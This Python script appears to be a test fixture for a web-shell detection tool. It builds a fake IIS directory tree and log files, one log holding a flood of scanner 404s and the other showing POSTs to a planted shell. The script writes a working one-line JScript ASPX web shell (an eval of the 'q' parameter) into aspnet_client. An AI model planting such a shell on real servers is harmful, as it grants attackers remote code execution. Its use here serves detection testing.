"""page_flood.py DIR N: a web shell in aspnet_client, an IIS log of N 404s
to N distinct pages (a scanner's flood), and a second, smaller log where the
shell is then used (200): the use must be found (EXH-WSU-003) whatever the
flood and whatever -j."""
import os
import sys

out, n = sys.argv[1], int(sys.argv[2])
web = os.path.join(out, "inetpub", "wwwroot", "aspnet_client", "system_web")
logs = os.path.join(out, "inetpub", "logs", "LogFiles", "W3SVC1")
os.makedirs(web, exist_ok=True)
os.makedirs(logs, exist_ok=True)
with open(os.path.join(web, "lgx.aspx"), "w") as f:
    f.write('<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>\n')
head = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
        "#Date: %s 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port "
        "cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status "
        "time-taken\n")
with open(os.path.join(logs, "u_ex210825.log"), "w") as f:
    f.write(head % "2021-08-25")
    for i in range(n):
        f.write("2021-08-25 01:00:00 10.10.0.25 GET /p%d.aspx - 443 - 198.51.100.20 Mozilla/5.0 - "
                "404 0 2 2\n" % i)
with open(os.path.join(logs, "u_ex210826.log"), "w") as f:
    f.write(head % "2021-08-26")
    for t in ("03:12:01", "03:12:09"):
        f.write("2021-08-26 %s 10.10.0.25 POST /aspnet_client/system_web/lgx.aspx - 443 - "
                "203.0.113.50 Mozilla/5.0 - 200 0 0 31\n" % t)
